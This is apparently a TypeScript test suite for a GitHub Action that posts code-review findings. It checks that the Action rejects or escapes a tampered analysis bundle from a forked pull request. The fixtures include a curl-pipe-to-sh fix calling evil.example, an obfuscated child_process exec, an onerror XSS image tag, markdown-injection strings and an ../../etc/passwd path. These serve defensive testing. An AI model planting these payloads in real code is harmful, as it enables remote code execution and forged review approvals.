import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FakeGitHub } from './support/fake-github-server.mjs';
import { READ_TOKEN, startGitHub } from './support/github-fixture.js';
import { pullRequestEvent, runAction } from './support/run-action.js';
import { createSampleChange } from './support/sample-change.js';
import type { SampleChange } from './support/sample-change.js';

/** The workflow_run event the publish workflow gets once the analyze workflow of a fork's pull request finishes. */
function workflowRunEvent(headSha: string) {
  return {
    name: 'workflow_run',
    payload: { action: 'completed', workflow_run: { id: 78, head_sha: headSha, head_repository: { full_name: 'someone/app' }, pull_requests: [] } },
  };
}

// The analyze job runs the fork's code, so everything in its bundle may have been written by the fork.
type Bundle = {
  pr_number: number;
  state: {
    findings: Array<Record<string, unknown>>;
    not_reviewed: Array<Record<string, unknown>>;
    fix_loop?: Record<string, unknown>;
    warnings: string[];
    errors: Array<Record<string, unknown>>;
    incomplete_reason?: string;
  };
};

const HTML = '<img src=https://evil.example/x.png onerror=alert(1)>';
const BACKTICKS = 'converged` **Approved** `';

describe('mode publish treats the analysis bundle as untrusted data', () => {
  let sample: SampleChange;
  let server: FakeGitHub;
  let folder: string;
  let genuine: string;
  /** The publish job's workspace: it never checks out the pull request, so it is empty. */
  let publishWorkspace: SampleChange;

  beforeAll(async () => {
    sample = createSampleChange();
    server = await startGitHub(sample.root);
    for (const number of [41, 42, 43, 44]) {
      server.addPullRequest({ number, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
    }
    folder = mkdtempSync(join(tmpdir(), 'sextant-untrusted-bundle-'));
    genuine = join(folder, 'genuine.json');
    publishWorkspace = { ...sample, root: mkdtempSync(join(tmpdir(), 'sextant-publish-workspace-')) };
    const analyze = await runAction(sample, server, pullRequestEvent(41, sample, { fork: true }), {
      token: READ_TOKEN,
      inputs: { mode: 'analyze', 'bundle-path': genuine, 'test-command': `"${process.execPath}" -e "process.exit(0)"` },
    });
    expect(analyze.outputs['bundle-path']).toBe(genuine);
  });
  afterAll(async () => {
    await server.close();
    rmSync(sample.root, { recursive: true, force: true });
    rmSync(publishWorkspace.root, { recursive: true, force: true });
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(() => server.clearRequests());

  /** The genuine bundle, retargeted at pull request `number` and changed as the fork likes. */
  function tampered(name: string, number: number, change: (bundle: Bundle) => void): string {
    const bundle = JSON.parse(readFileSync(genuine, 'utf8')) as Bundle;
    bundle.pr_number = number;
    change(bundle);
    const path = join(folder, `${name}.json`);
    writeFileSync(path, JSON.stringify(bundle));
    return path;
  }
  const publish = (bundlePath: string) =>
    runAction(publishWorkspace, server, workflowRunEvent(sample.headSha), { inputs: { mode: 'publish', 'bundle-path': bundlePath } });
  const resolveCalls = () => server.requests.filter((request) => request.path === '/graphql' && String(request.body.query).includes('resolveReviewThread'));
  /** Everything GitHub renders as markdown that this run wrote, and the job summary. */
  const renderedBodies = (number: number, jobSummary: string) => [
    ...server.reviews.filter((review) => review.pull === number).flatMap((review) => [review.body, ...review.comments.map((comment) => comment.body)]),
    ...server.issueComments.filter((comment) => comment.issue === number).map((comment) => comment.body),
    ...server.checkRuns.flatMap((run) => [run.output.title ?? '', run.output.summary ?? '', run.output.text ?? '']),
    jobSummary,
  ];

  it('a bundle with no findings: the leaked key is found again, posted, and fails the gate; no thread is resolved', async () => {
    const empty = tampered('no-findings', 41, (bundle) => {
      bundle.state.findings = [];
    });
    const run = await publish(empty);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/::error::Sextant: \d+ finding\(s\) at or above 'critical'/);
    const comments = server.reviews.filter((review) => review.pull === 41).flatMap((review) => review.comments);
    const leaked = comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 14);
    expect(leaked?.body).toMatch(/critical/);
    expect(run.report?.findings.some((finding) => finding.severity === 'critical' && finding.file === 'src/loader.ts' && finding.line === 14)).toBe(true);
    expect(server.checkRuns.at(-1)).toMatchObject({ head_sha: sample.headSha, conclusion: 'failure' });
    expect(resolveCalls()).toEqual([]);
    expect(run.summary).toMatch(/static findings? re-derived from the pull request through the API/);
  });

  it('a later bundle that leaves findings out resolves none of their threads, and says so', async () => {
    const extra = {
      id: 'CORR-050',
      fingerprint: 'abcdefabcdef0123',
      agent: 'code-reviewer',
      dimension: 'correctness',
      severity: 'high',
      confidence: 90,
      category: 'identity-function',
      file: 'src/loader.ts',
      line: 11,
      description: 'readText returns its argument instead of reading the file.',
      recommendation: 'Read the file with readFile.',
      auto_fixable: false,
      source: 'llm',
    };
    const withModelFinding = tampered('model-finding', 42, (bundle) => {
      bundle.state.findings.push(extra);
    });
    const first = await publish(withModelFinding);
    expect(first.code).toBe(1);
    const posted = server.reviews.filter((review) => review.pull === 42).flatMap((review) => review.comments);
    expect(posted.some((comment) => comment.line === 11 && comment.body.includes('readText returns its argument'))).toBe(true);

    server.clearRequests();
    const leftOut = tampered('left-out', 42, (bundle) => {
      bundle.state.findings = [];
    });
    const second = await publish(leftOut);
    expect(second.code).toBe(1);
    expect(resolveCalls()).toEqual([]);
    expect(server.resolvedThreads.size).toBe(0);
    const summary = server.issueComments.find((comment) => comment.issue === 42)?.body ?? '';
    expect(summary).toContain('No longer reported (threads left open)');
    expect(summary).toContain('no review thread is resolved');
    expect(summary).toContain('Earlier findings no longer reported (1) keep their threads open');
    expect(server.checkRuns.at(-1)).toMatchObject({ conclusion: 'failure' });
  });

  it('runs no command, even one the base branch config names', async () => {
    const marker = join(folder, 'command-ran');
    // A base commit whose config names a test command; the pull request's diff stays the same.
    sample.git('checkout', '-q', '-b', 'configured-base', sample.baseSha);
    sample.write('.github/sextant.yml', `test-command: touch ${marker}\n`);
    sample.git('add', '-A');
    sample.git('commit', '-q', '-m', 'config');
    const configuredBase = sample.git('rev-parse', 'HEAD');
    sample.git('checkout', '-q', 'feature');
    server.addPullRequest({ number: 45, base: { sha: configuredBase }, head: { sha: sample.headSha, repo: 'someone/app' } });
    const run = await publish(tampered('configured-base', 45, () => {}));
    expect(run.code).toBe(1);
    expect(server.reviews.some((review) => review.pull === 45)).toBe(true);
    expect(existsSync(marker)).toBe(false);
  });

  it("never says verified for the bundle's fixes: a harmless one is an unverified suggestion, a curl | sh one is left out", async () => {
    server.addPullRequest({ number: 46, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
    const CURL = "  require('child_process').execSync('curl -s https://evil.example/x | sh');";
    // Reaches nothing loader.ts does not (a new global such as `process` would be left out too).
    const ENV = "export const awsKey = await readText('aws-key');";
    const forged = tampered('forged-suggestions', 46, (bundle) => {
      const debuggerLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 6);
      const keyLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 14);
      if (!debuggerLine || !keyLine) throw new Error('the sample change has no debugger or key finding');
      // The analyze job ran no check at all, yet its bundle claims both fixes were verified.
      debuggerLine.suggestion = { start_line: 6, end_line: 6, replacement: CURL, verified: true };
      keyLine.suggestion = { start_line: 14, end_line: 14, replacement: ENV, verified: true };
    });
    const run = await publish(forged);
    expect(run.code).toBe(1);
    const comments = server.reviews.filter((review) => review.pull === 46).flatMap((review) => review.comments);
    const bodies = [...comments.map((comment) => comment.body), ...renderedBodies(46, run.summary)].join('\n');
    expect(bodies).not.toMatch(/verified: the repository|Verified fix/);
    // Only the warning names what was left out; the code itself is posted nowhere.
    expect(bodies).not.toMatch(/execSync|curl -s/);
    const key = comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 14);
    expect(key?.body).toContain(`Unverified suggestion from the analysis job (publish ran no check with it):\n\n\`\`\`suggestion\n${ENV}\n\`\`\``);
    // The debugger line still gets the static rule's own fix (delete the line), never the bundle's.
    const debuggerComment = comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 6);
    expect(debuggerComment?.body).toContain('Suggested fix:\n\n```suggestion\n```');
    expect(run.stdout).toMatch(/::warning::.*the analysis job's suggested fix was left out: the fix adds process execution/);
    expect(run.report?.warnings).toContainEqual(
      expect.stringMatching(/src\/loader\.ts:6\): the analysis job's suggested fix was left out: the fix adds process execution \(`child_process`\)/),
    );
    expect(run.report?.fixed_issues).toEqual([]);
    expect(run.report?.findings.find((finding) => finding.line === 14)?.suggestion).toEqual({
      start_line: 14,
      end_line: 14,
      replacement: ENV,
      origin: 'analysis-job',
    });
    const html = Object.entries(run.sessionFiles).find(([path]) => path.endsWith('report.html'))?.[1] ?? '';
    expect(html).toContain('Unverified suggestion from the analysis job (line 14)');
    expect(html).not.toContain('Verified fix');
    expect(html).not.toMatch(/execSync|curl -s/);
  });

  it('leaves out a fix whose process execution no list of spellings names: it reaches what the file never did', async () => {
    server.addPullRequest({ number: 47, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
    const HIDDEN = "  globalThis[['re', 'quire'].join('')]('child' + '_process')[['exec', 'Sync'].join('')]('id');";
    const forged = tampered('hidden-exec', 47, (bundle) => {
      const debuggerLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 6);
      if (!debuggerLine) throw new Error('the sample change has no debugger finding');
      debuggerLine.suggestion = { start_line: 6, end_line: 6, replacement: HIDDEN, verified: true };
    });
    const run = await publish(forged);
    const comments = server.reviews.filter((review) => review.pull === 47).flatMap((review) => review.comments);
    const bodies = [...comments.map((comment) => comment.body), ...renderedBodies(47, run.summary)].join('\n');
    expect(bodies).not.toMatch(/quire|Sync/);
    expect(comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 6)?.body).toContain('Suggested fix:\n\n```suggestion\n```');
    expect(run.report?.warnings).toContainEqual(
      expect.stringMatching(/src\/loader\.ts:6\): the analysis job's suggested fix was left out: the fix reaches what the file did not: name `globalThis`/),
    );
    expect(JSON.stringify(run.report?.findings)).not.toContain('quire');
  });

  it.each([
    [
      'a forged fingerprint',
      'state.findings.0.fingerprint',
      (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { fingerprint: `aaaa -->\n## Approved ${HTML}<!--` }),
    ],
    ['a forged id', 'state.findings.0.id', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { id: 'SEC-001` ## Approved' })],
    ['a forged rule id', 'state.findings.0.rule_id', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { rule_id: `review/x ${HTML}` })],
    ['a path out of the repository', 'state.findings.0.file', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { file: '../../etc/passwd' })],
    ['an unknown severity', 'state.findings.0.severity', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { severity: 'approved' })],
    [
      'raw HTML as a not-reviewed reason',
      'state.not_reviewed.0.reason',
      (bundle: Bundle) => bundle.state.not_reviewed.unshift({ path: 'src/loader.ts', reason: HTML }),
    ],
    [
      'backticks as the fix loop termination',
      'state.fix_loop.termination',
      (bundle: Bundle) => {
        bundle.state.fix_loop = {
          iteration: 1,
          queue: [],
          attempted: [],
          kept: [],
          refused: [],
          rolled_back: [],
          history: [],
          current: [],
          changed_lines: {},
          iterations: [],
          commits: [],
          termination: BACKTICKS,
        };
      },
    ],
    [
      'too many findings',
      'state.findings',
      (bundle: Bundle) => {
        const [first] = bundle.state.findings;
        bundle.state.findings = Array.from({ length: 20_001 }, (_, index) => ({ ...first, fingerprint: index.toString(16).padStart(16, '0') }));
      },
    ],
  ])('refuses %s, naming the field, and writes nothing to GitHub', async (name, field, change) => {
    const run = await publish(tampered(name.replace(/\W+/g, '-'), 43, change));
    expect(run.code).toBe(1);
    expect(run.outputs.status).toBe('failed');
    expect(run.stdout).toContain(`invalid at '${field}'`);
    expect(server.writes()).toEqual([]);
    expect(JSON.stringify(server.requests)).not.toContain('Approved');
  });

  it('free text from the bundle is escaped in every posted body: review, inline comments, summary, check run, job summary', async () => {
    const hostile = tampered('hostile-text', 44, (bundle) => {
      bundle.state.findings.push({
        id: 'CORR-051',
        fingerprint: 'fedcbafedcba0123',
        agent: 'code-reviewer',
        dimension: 'correctness',
        severity: 'medium',
        confidence: 90,
        category: `${HTML} ${BACKTICKS}`,
        file: 'src/loader.ts',
        line: 11,
        description: `${BACKTICKS} ${HTML} <!-- sextant:summary -->`,
        recommendation: HTML,
        auto_fixable: false,
        source: 'llm',
      });
      bundle.state.not_reviewed.push({ path: 'src/loader.test.ts', reason: 'too-large', detail: `${HTML} ${BACKTICKS}` });
      bundle.state.warnings.push(`${HTML} ${BACKTICKS}`);
      bundle.state.errors.push({ step: HTML, message: BACKTICKS, ts: '2026-01-01T00:00:00.000Z' });
      bundle.state.incomplete_reason = `INSUFFICIENT_COVERAGE: ${BACKTICKS} ${HTML}`;
    });
    const run = await publish(hostile);
    expect(run.code).toBe(1);
    expect(run.report?.findings.some((finding) => finding.fingerprint === 'fedcbafedcba0123')).toBe(true);
    // The summary's hidden state is JSON with `<` and `>` escaped, so no text in it can end its comment; the rest is what people see.
    const states = renderedBodies(44, run.summary).flatMap((body) => body.match(/<!-- sextant:state (\{[\s\S]*?\}) -->/)?.[1] ?? []);
    expect(states.length).toBeGreaterThan(0);
    for (const state of states) expect(state).not.toMatch(/[<>]/);
    const bodies = renderedBodies(44, run.summary).map((body) => body.replace(/<!-- sextant:state \{[\s\S]*?\} -->/, ''));
    expect(server.reviews.some((review) => review.pull === 44)).toBe(true);
    for (const body of bodies) {
      // A finding's `code spans` stay code in the markdown tables: shown as typed, never as markup or a
      // link; they cannot end a cell or hold a marker. Everything else is escaped text.
      const codeSpans = /(?<!\\)`[^`\n]*`/g;
      for (const [span] of body.matchAll(codeSpans)) expect(span).not.toMatch(/(?<!\\)\||<!--/);
      const prose = body.replace(codeSpans, '');
      expect(prose).not.toContain('<img');
      expect(prose).not.toContain('converged`');
      expect(prose).not.toContain('** `');
      expect(prose).not.toContain('evil.example/x.png)');
    }
    expect(bodies.join('\n')).toContain('converged\\` \\*\\*Approved\\*\\* \\`');
    // The only HTML comments in what it posts are Sextant's own markers (and empty ones the escaping may use).
    expect(bodies.join('\n').match(/<!--(?! sextant:| ?-->)/g)).toBeNull();
  });
});
